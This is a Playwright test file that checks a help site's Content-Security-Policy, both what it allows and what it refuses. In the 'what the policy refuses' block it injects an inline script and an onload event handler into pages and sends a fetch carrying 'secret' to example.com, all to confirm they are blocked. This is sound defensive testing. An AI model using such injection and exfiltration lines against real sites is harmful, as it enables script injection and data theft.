import { expect, type Page, test } from '@playwright/test';

import { codePathOf } from '../src/model/redirects.ts';
import { readBuiltSite } from './built-site.ts';
import { PAGE_TYPES } from './page-types.ts';
import { addressOf, library, longestIn } from './site.ts';
import { watch } from './watch.ts';

const error = longestIn('errors');
const [code = ''] = Object.values(library.codes);

for (const { name, address } of [...PAGE_TYPES, { name: 'short code', address: `.${codePathOf(code)}` }]) {
  test(`the policy of the page “${name}” allows all that is on it`, async ({ page }) => {
    const { refused, errors } = await watch(page);
    await page.goto(address, { waitUntil: 'networkidle' });
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    // Styles are inline: without them a page has no colours of its own.
    expect(await page.evaluate(() => document.styleSheets.length)).toBeGreaterThan(0);
    expect({ refused, errors }).toEqual({ refused: [], errors: [] });
  });
}

test('every page names its policy once, before anything that loads or runs', () => {
  const { pages } = readBuiltSite();
  expect(pages.size).toBeGreaterThan(0);
  const faults = [...pages.values()].filter(({ root }) => {
    const [charset, policy] = root.querySelectorAll('head > *');
    const text = policy?.getAttribute('content') ?? 'unsafe-inline';
    const isFirst =
      charset?.hasAttribute('charset') && policy?.getAttribute('http-equiv') === 'Content-Security-Policy';
    const isOnce = root.querySelectorAll('[http-equiv="Content-Security-Policy"]').length === 1;
    return !isFirst || !isOnce || text.includes('unsafe-inline');
  });
  expect(faults.map(({ file }) => file)).toEqual([]);
});

test('a walk through all that scripts do is refused nothing', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const { refused, errors } = await watch(page);
  const loaded: string[] = [];
  page.on('requestfinished', (request) => loaded.push(request.url()));

  await test.step('search, down to Pagefind', async () => {
    await page.goto('./search/');
    await page.locator('search-page textarea').fill('photos are missing after moving to a new phone');
    await expect(page.locator('[data-search-state="ready"] a[data-result]').first()).toBeVisible();
    // Pagefind’s WebAssembly ran: only then does it know which parts of its index to load.
    await expect.poll(() => loaded.filter((url) => url.endsWith('.pf_index'))).not.toHaveLength(0);
  });
  await test.step('copy a link, show a QR code', async () => {
    await page.goto(addressOf(error.ref));
    await page.getByText('Go on with another device').click();
    await expect(page.getByRole('img', { name: 'QR code' })).toBeVisible();
    await page.getByRole('link', { name: 'Link to this fix' }).first().click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain(error.ref);
  });
  await test.step('calculate', async () => {
    await page.goto('./kitchen-sink/');
    const calculator = page.locator('fit-calculator').first();
    await calculator.locator('[data-amount="free"]').fill('5');
    await calculator.locator('[data-amount="need"]').fill('3.2');
    await expect(calculator.locator('[data-answer]')).toHaveText('It fits.');
  });
  await test.step('shorten a list, copy a reply, write down what was tried', async () => {
    const tried = error.sections[0]?.fix.id ?? '';
    await page.goto('./errors/?filter=back');
    await expect(page.locator('list-filter [role="status"]')).toContainText(' of ');
    await page.goto('./support-desk/');
    await page.getByRole('button', { name: /^Text/ }).first().click();
    await page.goto(`./help/?tried=${tried}`);
    await expect(page.locator('hand-over textarea')).toBeVisible();
    await page.goto(`./fixed/?tried=${tried}.yes`, { waitUntil: 'networkidle' });
  });
  expect({ refused, errors }).toEqual({ refused: [], errors: [] });
});

test.describe('what the policy refuses', () => {
  const ran = (page: Page) => page.evaluate(() => 'wasRun' in window);

  test('a script that somebody put into a page does not run', async ({ page }) => {
    const { refused } = await watch(page);
    await page.route('./', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      await route.fulfill({ response, body: html.replace('</head>', '<script>wasRun = 1</script></head>') });
    });
    await page.goto('./');
    await expect.poll(() => refused.join()).toContain('script-src-elem inline');
    expect(await ran(page)).toBe(false);
  });

  test('an event handler in markup does not run', async ({ page }) => {
    const { refused } = await watch(page);
    await page.route('./', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const evil = '<img src="favicon.svg" onload="wasRun = 1" alt="">';
      await route.fulfill({ response, body: html.replace('<main', `${evil}<main`) });
    });
    await page.goto('./');
    await expect.poll(() => refused.join()).toContain('script-src-attr inline');
    expect(await ran(page)).toBe(false);
  });

  test('text becomes neither markup, nor code, nor the address of a script', async ({ page }) => {
    await page.goto('./');
    const results = await page.evaluate(() => {
      const attempt = (act: () => unknown): string => {
        try {
          act();
          return 'allowed';
        } catch (refusal) {
          return (refusal as Error).name;
        }
      };
      return {
        innerHTML: attempt(() => (document.body.innerHTML = '<p>text</p>')),
        script: attempt(() => (document.createElement('script').src = 'a.js')),
        worker: attempt(() => new Worker('a.js')),
        policy: attempt(() => (window as unknown as TrustedWindow).trustedTypes.createPolicy('own', {})),
      };
    });
    expect(results).toEqual({
      innerHTML: 'TypeError',
      script: 'TypeError',
      worker: 'TypeError',
      policy: 'TypeError',
    });
  });

  test('nothing is sent to another host', async ({ page }) => {
    const { refused } = await watch(page);
    await page.goto('./');
    const sent = await page.evaluate(() =>
      fetch('https://example.com/?q=secret').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    await expect.poll(() => refused.join()).toContain('connect-src https://example.com');
  });
});

/** Trusted Types, which TypeScript’s library does not know yet. */
interface TrustedWindow {
  trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
}
